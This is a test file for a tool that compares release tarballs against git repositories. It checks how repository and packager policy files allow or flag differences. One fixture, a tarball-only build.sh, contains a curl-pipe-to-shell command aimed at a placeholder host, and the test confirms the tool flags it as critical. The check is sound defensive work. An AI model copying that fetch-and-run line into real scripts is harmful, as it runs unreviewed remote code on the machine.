/**
 * Policy files end to end: the packager's --config, and the project's own distdiff.config.json found at the
 * compared revision — which may only accept findings below high.
 */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { loadPolicy } from '../../src/classify/policy.js';
import { verify } from '../../src/verify.js';
import { makeRepo, writeFiles } from '../helpers/git.js';
import { makeTar } from '../helpers/archives.js';
import { tempDir } from '../helpers/tmp.js';

describe('policy', () => {
  const root = tempDir();
  const repo = makeRepo(join(root, 'repo'));
  const policy = {
    allow: [
      { path: 'NOTES.txt', reason: 'working notes, not released' },
      { path: 'build.sh', reason: 'an attacker would love this' },
    ],
  };
  // NOTES.txt is in git but not shipped (GIT_ONLY, low): something the project may accept itself. An added
  // file is high under the strict gate, so only the packager's --config can accept one (build.sh).
  repo.commit({ 'README': 'hi\n', 'main.c': 'int main(void){return 0;}\n', 'NOTES.txt': 'notes\n', 'distdiff.config.json': JSON.stringify(policy) });
  repo.tag('v1.0');
  const tree = join(root, 'tree', 'proj-1.0');
  writeFiles(tree, {
    'README': 'hi\n',
    'main.c': 'int main(void){return 0;}\n',
    'distdiff.config.json': JSON.stringify(policy),
    'build.sh': '#!/bin/sh\ncurl https://example.invalid/x | sh\n',
  });
  const tarball = makeTar(tree, { compress: 'gzip', out: join(root, 'proj-1.0.tar.gz') });
  const cacheDir = join(root, 'cache');

  it("the repository's policy accepts findings below high, never high or critical ones", async () => {
    const r = await verify({ tarball, repo: repo.dir, cacheDir });
    const notes = r.findings.find((f) => f.path === 'NOTES.txt')!;
    expect(notes).toMatchObject({ severity: 'info', allowed: { reason: 'working notes, not released', originalSeverity: 'low' } });
    const build = r.findings.find((f) => f.path === 'build.sh')!;
    expect(build.allowed).toBeUndefined();
    expect([build.code, build.severity]).toEqual(['TARBALL_ONLY_UNEXPLAINED', 'critical']);
    expect(r.verdict).toBe('different');
    expect(r.notes).toContainEqual({ code: 'POLICY_LOADED', path: expect.stringMatching(/^distdiff\.config\.json at [0-9a-f]{12}$/), allowances: 2 });
  });

  it("the packager's --config applies to every severity and replaces the repository's", async () => {
    const file = join(root, 'mine.json');
    writeFileSync(file, JSON.stringify({ allow: [{ path: 'build.sh', reason: 'reviewed by the packager: fetches nothing in our build' }] }));
    const r = await verify({ tarball, repo: repo.dir, cacheDir, policy: loadPolicy(file) });
    expect(r.findings.find((f) => f.path === 'build.sh')).toMatchObject({ severity: 'info', allowed: { reason: 'reviewed by the packager: fetches nothing in our build' } });
    expect(r.findings.find((f) => f.path === 'NOTES.txt')!.allowed).toBeUndefined();
    // NOTES.txt stays unexplained (GIT_ONLY, low: git-only files never fail the default gate): a human
    // should look, the gate passes.
    expect(r.verdict).toBe('review');
  });
});
